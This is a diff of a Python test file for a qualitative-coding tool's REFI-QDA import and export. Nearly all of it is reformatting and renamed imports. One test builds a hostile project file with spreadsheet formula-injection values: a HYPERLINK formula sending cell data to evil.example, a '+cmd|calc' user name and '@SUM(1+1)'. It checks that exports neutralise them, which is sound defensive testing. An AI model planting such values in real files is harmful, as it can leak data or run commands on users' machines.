@@ -24,12 +24,12 @@ from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 from lxml import etree
 
-from qualkam.coding import code_folder
-from qualkam.decisions import add_memo, decide
-from qualkam.refi.export import export_qdpx
-from qualkam.refi.importing import import_qdpx, read_positions
-from qualkam.refi.positions import READINGS, utf16_offsets
-from qualkam.store import Project
+from qualkam.coding.decisions import add_memo, decide
+from qualkam.coding.run import code_folder
+from qualkam.interchange.refi.positions import READINGS, utf16_offsets
+from qualkam.interchange.refi.reader import import_qdpx, read_positions
+from qualkam.interchange.refi.writer import export_qdpx
+from qualkam.store.project import Project
 
 from .conftest import SHARED, needs_shared, run_cli, write
 from .test_refi_import import CODE_A, SOURCE, USER, project_xml, qdpx
@@ -59,9 +59,16 @@ LINES = [
     "Maria Lopez: The account director, but only after the team had talked it through.",
 ]
 # One phrase a turn: two selections of one code in one turn would be one coding.
-PHRASES = ["How did the account team start", "two people and a spreadsheet", "And the targets",
-           "came from head office", "Did that change later", "trusted each other", "Who decided in the end",
-           "talked it through"]
+PHRASES = [
+    "How did the account team start",
+    "two people and a spreadsheet",
+    "And the targets",
+    "came from head office",
+    "Did that change later",
+    "trusted each other",
+    "Who decided in the end",
+    "talked it through",
+]
 
 
 def _one_per_line_end(text_lf: str, phrase: str) -> tuple[int, int]:
@@ -74,9 +81,11 @@ def _selections(spans: list[tuple[int, int]], names: list[str] | None = None) ->
     out = []
     for i, (start, end) in enumerate(spans):
         name = f' name="{names[i]}"' if names else ""
-        out.append(f'<PlainTextSelection guid="e0000000-0000-4000-8000-{i:012d}"{name} startPosition="{start}" '
-                   f'endPosition="{end}" creatingUser="{USER}"><Coding guid="f0000000-0000-4000-8000-{i:012d}" '
-                   f'creatingUser="{USER}"><CodeRef targetGUID="{CODE_A}"/></Coding></PlainTextSelection>')
+        out.append(
+            f'<PlainTextSelection guid="e0000000-0000-4000-8000-{i:012d}"{name} startPosition="{start}" '
+            f'endPosition="{end}" creatingUser="{USER}"><Coding guid="f0000000-0000-4000-8000-{i:012d}" '
+            f'creatingUser="{USER}"><CodeRef targetGUID="{CODE_A}"/></Coding></PlainTextSelection>'
+        )
     return "".join(out)
 
 
@@ -107,13 +116,13 @@ def test_utf16_positions_over_crlf_still_read_as_utf16(tmp_path: Path) -> None:
 
 
 def test_read_positions_picks_the_reading_whose_spans_fall_on_word_boundaries() -> None:
-    raw = "A: \U0001F600 one two three four five six\n"
+    raw = "A: \U0001f600 one two three four five six\n"
     # As UTF-16 units (5, 8) would cut "one"; as code points it is "one".
     assert read_positions(raw, [(5, 8)]) == ("code points", [(5, 8)])
     assert read_positions(raw, [(6, 9)]) == ("utf-16", [(5, 8)])
 
 
-WORDS = st.sampled_from(["alpha", "beta", "gamma", "delta", "\U0001F600", "\u00e9t\u00e9", "x", "\U0001F1FA\U0001F1F8"])
+WORDS = st.sampled_from(["alpha", "beta", "gamma", "delta", "\U0001f600", "\u00e9t\u00e9", "x", "\U0001f1fa\U0001f1f8"])
 
 
 @st.composite
@@ -154,11 +163,13 @@ def test_positions_with_names_quoting_the_text_come_back_exactly(case: tuple[str
 
 
 @settings(max_examples=200, deadline=None)
-@given(st.text(alphabet=st.sampled_from("ab \r\n\U0001F600\ufeff"), max_size=40),
-       st.lists(st.tuples(st.none() | st.integers(-5, 90), st.none() | st.integers(-5, 90)), max_size=6),
-       st.lists(st.text(max_size=12), max_size=6))
+@given(
+    st.text(alphabet=st.sampled_from("ab \r\n\U0001f600\ufeff"), max_size=40),
+    st.lists(st.tuples(st.none() | st.integers(-5, 90), st.none() | st.integers(-5, 90)), max_size=6),
+    st.lists(st.text(max_size=12), max_size=6),
+)
 def test_read_positions_never_crashes_and_gives_spans_inside_the_text(raw: str, selections, names) -> None:
-    found, spans = read_positions(raw, selections, (names + [""] * len(selections))[:len(selections)])
+    found, spans = read_positions(raw, selections, (names + [""] * len(selections))[: len(selections)])
     assert found in (*READINGS, "same")
     assert len(spans) == len(selections)
     for span in spans:
@@ -209,7 +220,7 @@ def gary(tmp_path: Path, small_codebook) -> Path:
 
 
 def test_guids_are_written_in_lower_case(gary: Path, tmp_path: Path) -> None:
-    from qualkam.refi.export import export_qdc
+    from qualkam.interchange.refi.writer import export_qdc
 
     with Project.open(gary) as project:
         export_qdpx(project, tmp_path / "out.qdpx")
@@ -256,14 +267,16 @@ def test_the_project_memo_is_project_description_both_ways(gary: Path, tmp_path:
     assert _text(root.find(_q("Description"))) == "Fieldwork in the depot, spring round."
     with Project.open(tmp_path / "fresh.db", create=True) as project:  # our own file: the memo once
         import_qdpx(project, tmp_path / "out.qdpx")
-        assert [tuple(r) for r in project.query("SELECT coder, text FROM memos WHERE target_type = 'project'")] == \
-            [("ana", "Fieldwork in the depot, spring round.")]
+        assert [tuple(r) for r in project.query("SELECT coder, text FROM memos WHERE target_type = 'project'")] == [
+            ("ana", "Fieldwork in the depot, spring round.")
+        ]
     xml = project_xml("", extra="<Description>Coded by the Tuesday group.</Description>")
     path = qdpx(tmp_path / "other.qdpx", xml, {f"sources/{SOURCE}.txt": "I: Hello there.\n"})
     with Project.open(tmp_path / "other.db", create=True) as project:  # another tool's file
         import_qdpx(project, path)
-        assert [tuple(r) for r in project.query("SELECT coder, text FROM memos WHERE target_type = 'project'")] == \
-            [("Nadia", "Coded by the Tuesday group.")]
+        assert [tuple(r) for r in project.query("SELECT coder, text FROM memos WHERE target_type = 'project'")] == [
+            ("Nadia", "Coded by the Tuesday group.")
+        ]
 
 
 def test_notes_also_ship_as_text_files(gary: Path, tmp_path: Path) -> None:
@@ -276,12 +289,15 @@ def test_notes_also_ship_as_text_files(gary: Path, tmp_path: Path) -> None:
             path = note.get("plainTextPath")
             assert path == f"internal://{note.get('guid')}.txt"
             assert archive.read(f"sources/{note.get('guid')}.txt").decode("utf-8") == _text(
-                note.find(_q("PlainTextContent")))
+                note.find(_q("PlainTextContent"))
+            )
 
 
 # -- codes matched across tools ------------------------------------------------------------------
 def _code(guid: str, name: str, description: str = "", children: str = "") -> str:
-    return f'<Code guid="{guid}" name="{name}" isCodable="true"><Description>{description}</Description>{children}</Code>'
+    return (
+        f'<Code guid="{guid}" name="{name}" isCodable="true"><Description>{description}</Description>{children}</Code>'
+    )
 
 
 def test_codes_are_matched_by_their_id_line_then_by_a_label_unique_in_the_tree(tmp_path: Path, small_codebook) -> None:
@@ -290,16 +306,21 @@ def test_codes_are_matched_by_their_id_line_then_by_a_label_unique_in_the_tree(t
     write(tmp_path / "src" / "a.txt", "I: Do you trust each other?\nR: We trust each other now.\n")
     with Project.open(tmp_path / "p.db", create=True) as project:
         code_folder(tmp_path / "src", small_codebook, project, out_dir=None)
-    codes = ("<CodeBook><Codes>"
-             + _code("c1000000-0000-4000-8000-000000000001", "Renamed by Nadia", "Mine now.\n\n[qualkam id: hard_control]")
-             + _code("c1000000-0000-4000-8000-000000000002", "Themes", "", _code(
-                 "c1000000-0000-4000-8000-000000000003", "soft CONTROL") + _code(
-                 "c1000000-0000-4000-8000-000000000004", "Other") + _code(
-                 "c1000000-0000-4000-8000-000000000005", "Mode of control"))
-             + _code("c1000000-0000-4000-8000-000000000006", "Other")
-             + "</Codes></CodeBook>")
-    path = qdpx(tmp_path / "moved.qdpx", project_xml("", codes=codes),
-                {f"sources/{SOURCE}.txt": "I: Hello there.\n"})
+    codes = (
+        "<CodeBook><Codes>"
+        + _code("c1000000-0000-4000-8000-000000000001", "Renamed by Nadia", "Mine now.\n\n[qualkam id: hard_control]")
+        + _code(
+            "c1000000-0000-4000-8000-000000000002",
+            "Themes",
+            "",
+            _code("c1000000-0000-4000-8000-000000000003", "soft CONTROL")
+            + _code("c1000000-0000-4000-8000-000000000004", "Other")
+            + _code("c1000000-0000-4000-8000-000000000005", "Mode of control"),
+        )
+        + _code("c1000000-0000-4000-8000-000000000006", "Other")
+        + "</Codes></CodeBook>"
+    )
+    path = qdpx(tmp_path / "moved.qdpx", project_xml("", codes=codes), {f"sources/{SOURCE}.txt": "I: Hello there.\n"})
     with Project.open(tmp_path / "p.db") as project:
         report = import_qdpx(project, path)
         rows = {r[0]: (r[1], r[2]) for r in project.query("SELECT id, parent, label FROM codes")}
@@ -311,16 +332,18 @@ def test_codes_are_matched_by_their_id_line_then_by_a_label_unique_in_the_tree(t
 
 # -- a stranger's file ----------------------------------------------------------------------------
 def _deep_codes(depth: int) -> str:
-    opened = "".join(f'<Code guid="c0000000-0000-4000-8000-{i:012d}" name="level {i}" isCodable="true">'
-                     for i in range(depth))
+    opened = "".join(
+        f'<Code guid="c0000000-0000-4000-8000-{i:012d}" name="level {i}" isCodable="true">' for i in range(depth)
+    )
     return f"<CodeBook><Codes>{opened}{'</Code>' * depth}</Codes></CodeBook>"
 
 
 def test_1200_nested_codes_are_refused_clearly_and_the_project_is_untouched(tmp_path: Path, runner) -> None:
     """The tree is parsed with a stack (no RecursionError, exit 3, as before the fix); a codebook
     deeper than 50 levels is refused as a whole (exit 2), naming the level, nothing written."""
-    path = qdpx(tmp_path / "deep.qdpx", project_xml("", codes=_deep_codes(1200)),
-                {f"sources/{SOURCE}.txt": "I: Hello there.\n"})
+    path = qdpx(
+        tmp_path / "deep.qdpx", project_xml("", codes=_deep_codes(1200)), {f"sources/{SOURCE}.txt": "I: Hello there.\n"}
+    )
     db = tmp_path / "p.db"
     result = run_cli(runner, "import", "qdpx", path, "--project", db)
     assert result.exit_code == 2, result.output
@@ -330,8 +353,9 @@ def test_1200_nested_codes_are_refused_clearly_and_the_project_is_untouched(tmp_
 
 
 def test_a_deep_code_tree_within_the_limit_imports_and_exports(tmp_path: Path, runner) -> None:
-    path = qdpx(tmp_path / "deep.qdpx", project_xml("", codes=_deep_codes(45)),
-                {f"sources/{SOURCE}.txt": "I: Hello there.\n"})
+    path = qdpx(
+        tmp_path / "deep.qdpx", project_xml("", codes=_deep_codes(45)), {f"sources/{SOURCE}.txt": "I: Hello there.\n"}
+    )
     db = tmp_path / "p.db"
     result = run_cli(runner, "import", "qdpx", path, "--project", db)
     assert result.exit_code == 0, result.output
@@ -373,11 +397,15 @@ Josh Davis: Awesome. You are alive!
 00:00:15.500 --> 00:00:19.250
 stokes: Hey everybody, welcome. Gut feeling says we start.
 """
-SUGGESTION_SQL = ("SELECT c.source_id, s.position, c.code_id, c.evidence FROM codings c JOIN segments s "
-                  "ON s.id = c.segment_id WHERE c.coder IS NULL ORDER BY 1, 2, 3")
-SEGMENT_SQL = ('SELECT s.source_id, s.position, s.start, s."end", s.speaker, s.role, s.speaker_unit, s.time_start, '
-               "s.time_end, s.text, src.unit FROM segments s JOIN sources src ON src.id = s.source_id "
-               "ORDER BY s.source_id, s.position")
+SUGGESTION_SQL = (
+    "SELECT c.source_id, s.position, c.code_id, c.evidence FROM codings c JOIN segments s "
+    "ON s.id = c.segment_id WHERE c.coder IS NULL ORDER BY 1, 2, 3"
+)
+SEGMENT_SQL = (
+    'SELECT s.source_id, s.position, s.start, s."end", s.speaker, s.role, s.speaker_unit, s.time_start, '
+    "s.time_end, s.text, src.unit FROM segments s JOIN sources src ON src.id = s.source_id "
+    "ORDER BY s.source_id, s.position"
+)
 
 
 def _round_trip(folder: Path, tmp_path: Path, codebook) -> tuple[list[tuple], list[tuple], Path]:
@@ -428,16 +456,20 @@ def _tamper(path: Path, out: Path, data: bytes) -> Path:
     return out
 
 
-@pytest.mark.parametrize("change, reason", [
-    (lambda d: b"{not json", "not JSON"),
-    (lambda d: b"[" * 100_000 + b"]" * 100_000, "not JSON"),
-    (lambda d: d.replace(b'"unit": "turn"', b'"unit": "word"'), "unit"),
-    (lambda d: re.sub(rb'"end": \d+', b'"end": 999999', d, count=1), "outside the text"),
-    (lambda d: re.sub(rb'"sha256": "[0-9a-f]+"', b'"sha256": "00"', d, count=1), "another text"),
-    (lambda d: d.replace(b'"time_start": "00:00:01.000"', b'"time_start": "=HYPERLINK()"'), "not a time"),
-])
-def test_a_damaged_segments_file_is_reported_and_the_text_segmented_again(tmp_path: Path, small_codebook,
-                                                                          change, reason, runner) -> None:
+@pytest.mark.parametrize(
+    "change, reason",
+    [
+        (lambda d: b"{not json", "not JSON"),
+        (lambda d: b"[" * 100_000 + b"]" * 100_000, "not JSON"),
+        (lambda d: d.replace(b'"unit": "turn"', b'"unit": "word"'), "unit"),
+        (lambda d: re.sub(rb'"end": \d+', b'"end": 999999', d, count=1), "outside the text"),
+        (lambda d: re.sub(rb'"sha256": "[0-9a-f]+"', b'"sha256": "00"', d, count=1), "another text"),
+        (lambda d: d.replace(b'"time_start": "00:00:01.000"', b'"time_start": "=HYPERLINK()"'), "not a time"),
+    ],
+)
+def test_a_damaged_segments_file_is_reported_and_the_text_segmented_again(
+    tmp_path: Path, small_codebook, change, reason, runner
+) -> None:
     write(tmp_path / "src" / "call.vtt", VTT)
     _, _, path = _round_trip(tmp_path / "src", tmp_path, small_codebook)
     with zipfile.ZipFile(path) as archive:
@@ -451,16 +483,22 @@ def test_a_damaged_segments_file_is_reported_and_the_text_segmented_again(tmp_pa
         assert project.query("SELECT COUNT(*) FROM segments")[0][0] > 0
 
 
-JSONISH = st.recursive(st.none() | st.booleans() | st.integers(-3, 300) | st.text(max_size=8),
-                       lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
-                           st.sampled_from(["start", "end", "speaker", "unit", "sha256", "segments", "x"]), inner,
-                           max_size=5), max_leaves=20)
+JSONISH = st.recursive(
+    st.none() | st.booleans() | st.integers(-3, 300) | st.text(max_size=8),
+    lambda inner: (
+        st.lists(inner, max_size=4)
+        | st.dictionaries(
+            st.sampled_from(["start", "end", "speaker", "unit", "sha256", "segments", "x"]), inner, max_size=5
+        )
+    ),
+    max_leaves=20,
+)
 
 
 @settings(max_examples=300, deadline=None)
 @given(JSONISH, st.text(max_size=60))
 def test_segment_data_validation_never_crashes(entry, text: str) -> None:
-    from qualkam.refi.segdata import SegmentDataError, text_hash, validate
+    from qualkam.interchange.refi.segdata import SegmentDataError, text_hash, validate
 
     for candidate in (entry, {"sha256": text_hash(text), "unit": "turn", "segments": entry}):
         try:
@@ -475,17 +513,27 @@ def test_segment_data_validation_never_crashes(entry, text: str) -> None:
 @settings(max_examples=100, deadline=None)
 @given(st.text(min_size=1, max_size=80), st.data())
 def test_segment_data_that_qualkam_writes_is_read_back(text: str, data) -> None:
-    from qualkam.refi.segdata import build, parse, validate
+    from qualkam.interchange.refi.segdata import build, parse, validate
 
     cuts = sorted(set(data.draw(st.lists(st.integers(0, len(text)), max_size=6)) + [0, len(text)]))
-    rows = [{"start": a, "end": b, "speaker": data.draw(st.none() | st.sampled_from(["Ana", "kev (Besu)"])),
-             "role": None, "speaker_unit": None, "time_start": data.draw(st.none() | st.just("00:00:01.500")),
-             "time_end": None} for a, b in zip(cuts, cuts[1:])]
+    rows = [
+        {
+            "start": a,
+            "end": b,
+            "speaker": data.draw(st.none() | st.sampled_from(["Ana", "kev (Besu)"])),
+            "role": None,
+            "speaker_unit": None,
+            "time_start": data.draw(st.none() | st.just("00:00:01.500")),
+            "time_end": None,
+        }
+        for a, b in zip(cuts, cuts[1:])
+    ]
     entry = parse(build([("ABCDEF01-0000-4000-8000-000000000001", "s", text, "sentence", rows)]))
     unit, segments = validate(entry["ABCDEF01-0000-4000-8000-000000000001"], text)
     assert unit == "sentence"
-    assert [(s.start, s.end, s.speaker, s.time_start) for s in segments] == \
-        [(r["start"], r["end"], r["speaker"], r["time_start"]) for r in rows]
+    assert [(s.start, s.end, s.speaker, s.time_start) for s in segments] == [
+        (r["start"], r["end"], r["speaker"], r["time_start"]) for r in rows
+    ]
 
 
 # -- every layer, the machine's suggestions for review elsewhere -----------------------------------
@@ -542,8 +590,9 @@ def test_export_auto_gives_peoples_codings_and_the_undecided_suggestions(reviewe
 def test_every_layer_name_works_on_export(reviewed: Path, tmp_path: Path, runner, layer: str) -> None:
     if layer == "consensus":
         with Project.open(reviewed) as project:
-            segment, code = project.query("SELECT segment_id, code_id FROM codings WHERE coder = 'ana' "
-                                          "AND status = 'accepted'")[0]
+            segment, code = project.query(
+                "SELECT segment_id, code_id FROM codings WHERE coder = 'ana' AND status = 'accepted'"
+            )[0]
             decide(project, "consensus", segment, code, "accept")
     result = run_cli(runner, "export", "qdpx", tmp_path / "x.qdpx", "--from", layer, "--project", reviewed)
     assert result.exit_code == 0, result.output
@@ -561,8 +610,9 @@ def test_an_unknown_layer_lists_the_layers_and_a_close_one(reviewed: Path, tmp_p
 @needs_shared
 @pytest.mark.shared
 @pytest.mark.parametrize("layer", ["human", "auto", "suggestions"])
-def test_exports_with_memos_cases_and_the_machine_user_validate_against_the_schema(gary: Path, tmp_path: Path,
-                                                                                    layer: str) -> None:
+def test_exports_with_memos_cases_and_the_machine_user_validate_against_the_schema(
+    gary: Path, tmp_path: Path, layer: str
+) -> None:
     schema = etree.XMLSchema(etree.parse(str(SHARED / "refi-qda" / "schema" / "Project-mrt2019.xsd")))
     with Project.open(gary) as project:
         export_qdpx(project, tmp_path / "out.qdpx", layer)
@@ -578,16 +628,27 @@ def test_names_from_a_strangers_file_are_kept_verbatim_as_data(tmp_path: Path) -
     """A code named like a spreadsheet formula stays those characters in the store (the sheet
     and CSV writers neutralise them on the way out; the id made from it is plain)."""
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    codes = "<CodeBook><Codes>" + _code("c2000000-0000-4000-8000-000000000001", formula.replace('"', "&quot;")
-                                        .replace("&A1", "&amp;A1"), "@SUM(1+1)") + "</Codes></CodeBook>"
+    codes = (
+        "<CodeBook><Codes>"
+        + _code(
+            "c2000000-0000-4000-8000-000000000001",
+            formula.replace('"', "&quot;").replace("&A1", "&amp;A1"),
+            "@SUM(1+1)",
+        )
+        + "</Codes></CodeBook>"
+    )
     users = f'<Users><User guid="{USER}" name="+cmd|calc"/></Users>'
     sels = _selections([(3, 8)]).replace(CODE_A, "c2000000-0000-4000-8000-000000000001")
-    path = qdpx(tmp_path / "evil.qdpx", project_xml(sels, codes=codes, users=users),
-                {f"sources/{SOURCE}.txt": "I: Hello there, how are you?\n"})
+    path = qdpx(
+        tmp_path / "evil.qdpx",
+        project_xml(sels, codes=codes, users=users),
+        {f"sources/{SOURCE}.txt": "I: Hello there, how are you?\n"},
+    )
     with Project.open(tmp_path / "p.db", create=True) as project:
         import_qdpx(project, path)
-        assert [tuple(r) for r in project.query("SELECT id, label, definition FROM codes")] == \
-            [("hyperlink_http_evil_example_x_a1_click", formula, "@SUM(1+1)")]
+        assert [tuple(r) for r in project.query("SELECT id, label, definition FROM codes")] == [
+            ("hyperlink_http_evil_example_x_a1_click", formula, "@SUM(1+1)")
+        ]
         assert [r[0] for r in project.query("SELECT coder FROM codings WHERE coder IS NOT NULL")] == ["+cmd|calc"]
     # ... and never a live formula in what qualkam writes from it (issue 11, section 6).
     import csv
@@ -596,14 +657,19 @@ def test_names_from_a_strangers_file_are_kept_verbatim_as_data(tmp_path: Path) -
     from typer.testing import CliRunner
 
     runner, db = CliRunner(), tmp_path / "p.db"
-    assert run_cli(runner, "sheet", "export", "--coder", "Nadia", "--out", tmp_path / "s.xlsx", "--project", db).exit_code == 0
+    assert (
+        run_cli(runner, "sheet", "export", "--coder", "Nadia", "--out", tmp_path / "s.xlsx", "--project", db).exit_code
+        == 0
+    )
     book = openpyxl.load_workbook(tmp_path / "s.xlsx")
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     assert any(c.value == "'" + formula for c in cells)  # the name, kept, neutralised
-    for args in (("sheet", "export", "--coder", "Nadia", "--out", tmp_path / "s.csv"),
-                 ("excerpts", "--format", "csv", "--out", tmp_path / "e.csv"),
-                 ("memo", "list", "--out", tmp_path / "m.csv")):
+    for args in (
+        ("sheet", "export", "--coder", "Nadia", "--out", tmp_path / "s.csv"),
+        ("excerpts", "--format", "csv", "--out", tmp_path / "e.csv"),
+        ("memo", "list", "--out", tmp_path / "m.csv"),
+    ):
         run_cli(runner, *args, "--project", db)
     for name in ("s.csv", "e.csv"):
         with open(tmp_path / name, encoding="utf-8-sig", newline="") as handle:
@@ -612,13 +678,18 @@ def test_names_from_a_strangers_file_are_kept_verbatim_as_data(tmp_path: Path) -
 
 
 @settings(max_examples=200, deadline=None)
-@given(st.binary(max_size=200) | st.recursive(st.none() | st.integers() | st.text(max_size=6),
-                                                lambda inner: st.lists(inner, max_size=3)
-                                                | st.dictionaries(st.sampled_from(["format", "version", "sources", "x"]),
-                                                                  inner, max_size=4)).map(
-                                                    lambda v: json.dumps(v).encode()))
+@given(
+    st.binary(max_size=200)
+    | st.recursive(
+        st.none() | st.integers() | st.text(max_size=6),
+        lambda inner: (
+            st.lists(inner, max_size=3)
+            | st.dictionaries(st.sampled_from(["format", "version", "sources", "x"]), inner, max_size=4)
+        ),
+    ).map(lambda v: json.dumps(v).encode())
+)
 def test_segment_data_parsing_never_crashes(data: bytes) -> None:
-    from qualkam.refi.segdata import SegmentDataError, parse
+    from qualkam.interchange.refi.segdata import SegmentDataError, parse
 
     try:
         entries = parse(data)
